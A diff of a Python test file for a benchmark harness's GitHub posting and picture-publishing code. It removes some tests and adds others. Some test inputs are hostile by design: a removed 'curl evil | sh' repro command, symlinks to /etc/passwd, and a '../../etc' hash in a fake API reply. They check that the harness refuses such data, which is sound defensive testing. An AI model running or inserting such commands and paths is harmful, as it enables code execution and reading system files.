@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import os
 import shutil
@@ -14,7 +15,9 @@ from typing import Any
 import pytest
 
 from harness.cli import run_command_line
-from harness.errors import RunError
+from harness.errors import GitHubError, RunError, UsageError
+from harness.github.api import Client
+from harness.github.pictures import Shelf, branch_named, publish
 from harness.github.posting import read_figures
 from harness.report import render
 from harness.report.pages import Links
@@ -58,21 +61,6 @@ def test_a_run_without_a_base() -> None:
     assert image.alt.startswith("Latency of each variant: 72 cases: ")
 
 
-def test_where_nothing_was_measured_there_is_no_picture(folder: Path) -> None:
-    unmeasured = make_comparison([make_row("net/stock@cpu", verdict="identical")])
-    (folder / "comparison.json").write_text(render(unmeasured, "json"))
-    assert read_figures(folder).draw() == {}
-
-
-def test_no_command_of_an_artifact_is_taken_over_but_the_harnesss_own(folder: Path) -> None:
-    row = replace(COMPARISON.rows[0], repro=("curl evil | sh", "harness compare a b"))
-    comparison = replace(COMPARISON, rows=(row,), command=("curl", "evil"))
-    (folder / "comparison.json").write_text(render(comparison, "json"))
-    comment = read_figures(folder).comment((), Links())
-    assert "curl" not in comment
-    assert "harness compare a b" in comment
-
-
 def test_a_flag_stands_where_the_suite_of_the_base_has_it_and_nowhere_else(folder: Path) -> None:
     """What an artifact says of flags is what the change wants to be pasted."""
     compiled = "# base: module 0123456789ab, iree-compile model.mlir -o module.vmfb"
@@ -107,35 +95,12 @@ def test_a_name_or_a_text_that_no_harness_writes_is_refused(folder: Path, field:
         read_figures(folder)
 
 
-def test_a_run_with_a_name_that_no_suite_has_is_refused(tmp_path: Path) -> None:
-    shutil.copytree(PUBLISHED, tmp_path / "run")
-    header = json.loads((tmp_path / "run/run.json").read_text())
-    header["cases"][0]["variant"] = "|" * 10_000_000
-    (tmp_path / "run/run.json").write_text(json.dumps(header))
-    with pytest.raises(RunError, match="has a name of 10,000,000 characters, which no suite has"):
-        read_figures(tmp_path / "run")
-
-
-def test_the_key_stands_for_the_figures(folder: Path) -> None:
-    before = read_figures(folder).key
-    (folder / "report.md").write_text("changed")
-    assert read_figures(folder).key == before
-    document = json.loads((folder / "comparison.json").read_text())
-    document["rows"][0]["ratio"] = 1.2
-    (folder / "comparison.json").write_text(json.dumps(document))
-    assert read_figures(folder).key != before
-
-
 @pytest.mark.parametrize(
     ("file", "content", "sentence"),
     [
-        ("comparison.json", "", r"is not JSON"),
         ("comparison.json", "\xff\xfe", r"is not JSON"),
         ("comparison.json", "[" * 100_000, r"is damaged"),
-        ("comparison.json", "{}", r"is no comparison of schema version"),
         ("comparison.json", '{"schema_version": 99}', r"has schema 99, and this harness reads 1; upgrade it"),
-        ("comparison.json", '{"schema_version": 1}', r"is damaged at"),
-        ("comparison.json", '{"schema_version": 1, "rows": [{}], "means": [], "machine": {}}', r"is damaged at"),
         ("run.json", "{", r"run\.json"),
         ("other.json", "{}", r"holds neither comparison\.json nor run\.json; give what"),
     ],
@@ -147,30 +112,21 @@ def test_figures_that_are_none(tmp_path: Path, file: str, content: str, sentence
     assert "\n" not in str(caught.value)
 
 
-def test_figures_that_are_too_large(folder: Path, tmp_path: Path) -> None:
-    with (folder / "comparison.json").open("wb") as file:
-        os.truncate(file.fileno(), 5 * 2**30)
-    with pytest.raises(RunError, match="is larger than 128 MiB"):
-        read_figures(folder)
+def test_figures_that_are_too_large_or_links(folder: Path, tmp_path: Path) -> None:
     run = tmp_path / "run"
     shutil.copytree(PUBLISHED, run)
-    with (run / "rounds.jsonl").open("ab") as file:
-        os.truncate(file.fileno(), 2**31)
-    with pytest.raises(RunError, match="is larger than 1024 MiB; post a run of fewer cases"):
-        read_figures(run)
-
-
-def test_links_are_not_followed(folder: Path, tmp_path: Path) -> None:
-    (folder / "comparison.json").rename(folder / "other.json")
-    (folder / "comparison.json").symlink_to(folder / "other.json")
-    with pytest.raises(RunError, match=r"comparison\.json: is a link; give the comparison's own folder"):
-        read_figures(folder)
-    run = tmp_path / "run"
-    shutil.copytree(PUBLISHED, run)
-    (run / "rounds.jsonl").unlink()
-    (run / "rounds.jsonl").symlink_to("/etc/passwd")
-    with pytest.raises(RunError, match="holds links; give a run's own folder"):
-        read_figures(run)
+    for path, size, sentence in (
+        (folder / "comparison.json", 5 * 2**30, "is larger than 128 MiB"),
+        (run / "rounds.jsonl", 2**31, "is larger than 1024 MiB; post a run of fewer cases"),
+    ):
+        with path.open("ab") as file:
+            os.truncate(file.fileno(), size)
+        with pytest.raises(RunError, match=sentence):
+            read_figures(path.parent)
+        path.rename(path.with_name("other"))
+        path.symlink_to("/etc/passwd")
+        with pytest.raises(RunError, match=r"(is a link|holds links); give "):
+            read_figures(path.parent)
 
 
 # --- Posting ---
@@ -207,13 +163,6 @@ def test_it_says_what_it_did(report: Path, github: FakeGitHub, capsys: pytest.Ca
     assert "[Dashboard](https://o.github.io/r)" in github.bodies[0]
 
 
-def test_pictures_that_others_publish(report: Path, github: FakeGitHub) -> None:
-    assert post(report, "--images-url", "https://o.github.io/r/pr-7/") == 0
-    assert 'src="https://o.github.io/r/pr-7/forest-light.png"' in github.bodies[0]
-    assert 'srcset="https://o.github.io/r/pr-7/forest-dark.png"' in github.bodies[0]
-    assert 'alt="Ratios with their intervals: 1 regression, 1 identical."' in github.bodies[0]
-
-
 def test_pictures_on_a_branch_are_published_once(report: Path, github: FakeGitHub) -> None:
     assert post(report, "--images-branch", "harness-pictures") == 0
     commit = github.branches["harness-pictures"]
@@ -245,13 +194,6 @@ def test_a_comment_that_github_finds_too_long_is_posted_in_short(
         "[The whole report](https://github.com/o/r/actions/runs/5) is with the run that measured it.\n"
     ]
     assert capsys.readouterr().err.startswith("the comment is too long for GitHub; a short form is posted\n")
-
-
-def test_an_author_that_is_given_is_not_asked_for(report: Path, github: FakeGitHub) -> None:
-    github.comment(f"{MARKER}\n\nold", login="iree-bot[bot]")
-    assert post(report, "--author", "iree-bot[bot]") == 0
-    assert "1 regression" in github.bodies[0]
-    assert github.methods == ["GET", "PATCH"]
 
 
 def test_the_commits_of_base_and_head_are_linked(report: Path, github: FakeGitHub, tmp_path: Path) -> None:
@@ -321,11 +263,6 @@ def test_options_that_make_no_sense(
     assert github.requests == []
 
 
-def test_a_repository_has_to_be_said(report: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    assert run_command_line(["github", "post", str(report), "--pr", "7"]) == 2
-    assert capsys.readouterr().err == "harness: which repository is meant has to be said: give --repo owner/name\n"
-
-
 def test_without_a_token_there_is_a_rehearsal(
     report: Path, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -365,16 +302,6 @@ def test_one_issue_of_a_title_is_kept_up_to_date(github: FakeGitHub, capsys: pyt
 
 
 @pytest.mark.usefixtures("_command_line")
-def test_the_rehearsal_of_an_issue(github: FakeGitHub, capsys: pytest.CaptureFixture[str]) -> None:
-    assert issue("| a |\n", "--dry-run") == 0
-    assert capsys.readouterr() == (
-        "<!--harness issue: Compiler changes-->\n\n| a |\n",
-        "would open or change “Compiler changes” among the issues of o/r\n",
-    )
-    assert github.requests == []
-
-
-@pytest.mark.usefixtures("_command_line")
 def test_a_report_that_is_too_long_for_an_issue_ends_with_a_whole_line(github: FakeGitHub) -> None:
     assert issue("| a row of a table |\n" * 10_000) == 0
     body = github.issues[0]["body"]
@@ -382,7 +309,60 @@ def test_a_report_that_is_too_long_for_an_issue_ends_with_a_whole_line(github: F
     assert len(body) <= 65_536
 
 
-@pytest.mark.usefixtures("_command_line")
-def test_a_report_that_does_not_exist(capsys: pytest.CaptureFixture[str]) -> None:
-    assert run_command_line(["github", "issue", "changes.md", "--title", "x", "--repo", "o/r"]) == 2
-    assert capsys.readouterr().err.startswith("harness: changes.md: cannot be read")
+# --- Pictures on a branch of their own, linked by commit ---
+
+
+BRANCH = "harness-pictures"
+SHELF = Shelf(repository="o/r", branch=BRANCH, server="https://github.com", folder="pr-7/0123456789ab")
+FILES = {"forest-light.png": b"\x89PNG light", "forest-dark.png": b"\x89PNG dark"}
+PATHS = {f"{SHELF.folder}/{name}" for name in FILES}
+
+
+def test_a_branch_without_parents_is_made_and_later_pictures_join_it(github: FakeGitHub, client: Client) -> None:
+    first = publish(client, SHELF, FILES)
+    assert github.branches == {BRANCH: first}
+    assert github.objects[first]["parents"] == []
+    files = github.files(BRANCH)
+    assert files.keys() == PATHS
+    light = github.objects[files["pr-7/0123456789ab/forest-light.png"]]
+    assert base64.b64decode(light["content"]) == FILES["forest-light.png"]
+
+    second = publish(client, replace(SHELF, folder="pr-8/ba9876543210"), FILES)
+    assert github.objects[second]["parents"] == [first]
+    assert len(github.files(BRANCH)) == 4
+
+
+@pytest.mark.parametrize("races", [1, 3])
+def test_where_another_job_was_faster_they_are_added_to_its_commit(
+    github: FakeGitHub, client: Client, sentences: list[str], races: int
+) -> None:
+    github.commit_to(BRANCH, "pr-1/a/forest-light.png")
+    others = {f"pr-9/{race}/forest-light.png" for race in range(races)}
+    for path in others:
+        github.fail("PATCH", "refs", "first", do=lambda path=path: github.commit_to(BRANCH, path))
+    publish(client, SHELF, FILES)
+    assert github.files(BRANCH).keys() == PATHS | others | {"pr-1/a/forest-light.png"}
+    moved = [sentence for sentence in sentences if "has moved on" in sentence]
+    assert moved == [f"branch {BRANCH} has moved on meanwhile; adding the pictures again"] * races
+
+
+@pytest.mark.parametrize(
+    ("fault", "sentence"),
+    [
+        ({"status": 403}, r"keep forest-light\.png; .* `permissions: contents: write`"),
+        ({"status": 201, "body": '{"sha": "../../etc"}'}, "answers without the hash of what was sent"),
+        ({"status": 201, "body": "[]"}, "answers without the hash of what was sent"),
+    ],
+)
+def test_pictures_that_are_not_taken(github: FakeGitHub, client: Client, fault: dict[str, str], sentence: str) -> None:
+    github.fail("POST", "blobs", **fault)  # type: ignore[arg-type]  # a fault's fields, by name
+    with pytest.raises(GitHubError, match=sentence):
+        publish(client, SHELF, FILES)
+
+
+@pytest.mark.parametrize(
+    "name", ["", "-x", "a b", "a..b", "a/", "/a", "a//b", "x.lock", "a~1", "a:b", "a\nb", "x" * 300]
+)
+def test_names_that_no_branch_has(name: str) -> None:
+    with pytest.raises(UsageError, match=r"is no name of a branch; harness-pictures is one"):
+        branch_named(name)
